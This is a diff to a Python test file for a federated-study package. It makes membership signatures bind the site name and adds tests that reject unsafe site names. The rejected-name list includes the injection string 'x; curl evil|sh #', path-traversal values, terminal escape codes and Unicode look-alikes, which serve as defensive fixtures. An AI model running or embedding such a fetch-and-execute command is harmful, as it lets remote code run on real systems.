@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+import json
 from pathlib import Path
 from typing import Any
 
@@ -13,10 +14,11 @@ import torch
 from consilience.admission import admit, rehearsed, would_leave
 from consilience.data.columns import features, inspect, labelled, sums
 from consilience.errors import InputError
+from consilience.joining import joined
 from consilience.posterior import Dense, Gaussian
 from consilience.proposal import EXAMPLE, consistent, proposal
 from consilience.signature import new_key, public, sign
-from consilience.study import Study, from_fields, read, read_columns
+from consilience.study import Study, check_name, from_fields, read, read_columns, signed_words
 from consilience.study_text import proposed, study_text
 
 
@@ -62,7 +64,8 @@ def test_joining_and_leaving_keeps_numbers(tmp_path: Path) -> None:
 
     left = made.without("south")
     key = new_key(tmp_path / "east.key")
-    more = left.with_member("east", public(key), sign(key, "agreement", made.agreement.hash.encode()))
+    signed = sign(key, "agreement", signed_words(made.agreement.hash, "east"))
+    more = left.with_member("east", public(key), signed)
 
     assert [s.number for s in more.active] == [0, 2, 3]  # 1 is not given again
     assert left.models[0].superseded and not made.models[0].superseded
@@ -71,9 +74,62 @@ def test_joining_and_leaving_keeps_numbers(tmp_path: Path) -> None:
     with pytest.raises(InputError, match="no site in the study"):
         left.member("nowhere")
     with pytest.raises(InputError, match="in the study already"):
-        made.with_member("north", public(key), sign(key, "agreement", made.agreement.hash.encode()))
+        made.with_member("North", public(key), signed)
+    with pytest.raises(InputError, match="not for this agreement and this name"):
+        made.with_member("west-2", public(key), signed)
+    with pytest.raises(InputError, match="not for this agreement and this name"):  # as older versions signed
+        made.with_member("east", public(key), sign(key, "agreement", made.agreement.hash.encode()))
     with pytest.raises(InputError, match="not for this agreement"):
-        made.with_member("east", public(key), sign(key, "reply", made.agreement.hash.encode()))
+        made.with_member("east", public(key), sign(key, "reply", signed_words(made.agreement.hash, "east")))
+
+
+NO_NAMES = [
+    "",
+    " north",
+    "north.",
+    "-rf",
+    "..",
+    "/mnt/outbox/x",
+    "..\\x",
+    "Server",
+    "x; curl evil|sh #",
+    "\x1b[2Jfake",
+    "a\x7f",
+]
+LOOK_ALIKES = ["clevel\u0430nd", "ｎorth", "nort\u200bh", "north\u0301", "[/red]", "a\nb", "x" * 65]
+
+
+@pytest.mark.parametrize("name", [*NO_NAMES, *LOOK_ALIKES])
+def test_what_is_not_a_plain_name_is_no_name_of_a_site(tmp_path: Path, name: str) -> None:
+    study = studies.study(tmp_path)
+    key = new_key(tmp_path / "east.key")
+    fields = {"hash": study.agreement.hash, "key": public(key), "site": name}
+    signed = sign(key, "agreement", signed_words(study.agreement.hash, name))
+    (tmp_path / "x.join").write_text(json.dumps({**fields, "signature": signed}))
+    path = tmp_path / "sepsis.toml"
+    path.write_text(study_text(study).replace('name = "north"', f"name = {json.dumps(name)}"), newline="")
+
+    with pytest.raises(InputError, match="cannot be a site's name"):
+        joined(study, tmp_path / "x.join")
+    with pytest.raises(InputError):
+        read(path)
+
+
+@pytest.mark.parametrize("name", ["cleveland", "St. Mary-2_b", "Zürich", "Пермь", "東京メディカル"])
+def test_names_may_be_of_any_one_script(name: str) -> None:
+    check_name(name)
+
+
+def test_a_name_changed_in_the_study_is_noticed(tmp_path: Path) -> None:
+    path = tmp_path / "sepsis.toml"
+    text = study_text(studies.study(tmp_path))
+
+    path.write_text(text.replace('name = "north"', 'name = "east"'))
+    with pytest.raises(InputError, match="«east» is not for this agreement and this name"):
+        read(path)
+    path.write_text(text + text[text.index("[[sites]]") :])
+    with pytest.raises(InputError, match="the same name"):
+        read(path)
 
 
 def test_features_are_what_the_agreement_says(tmp_path: Path) -> None:
